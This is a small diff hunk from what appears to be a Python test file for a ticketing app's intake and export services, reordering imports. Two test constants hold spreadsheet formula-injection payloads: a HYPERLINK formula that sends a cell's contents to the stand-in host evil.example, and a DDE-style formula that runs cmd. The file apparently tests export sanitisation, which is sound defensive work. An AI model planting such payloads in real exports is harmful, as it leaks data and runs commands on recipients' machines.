@@ -13,8 +13,9 @@ from typing import Any
 
 import openpyxl
 
-from tickets.services import exports, intake
-from tickets.services.actors import Actor
+from tickets.core.actors import Actor
+from tickets.intake.services import intake
+from tickets.metrics.services import exports
 
 TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看详情")'
 NAME = "@SUM(1+1)*cmd|' /C calc'!A0"
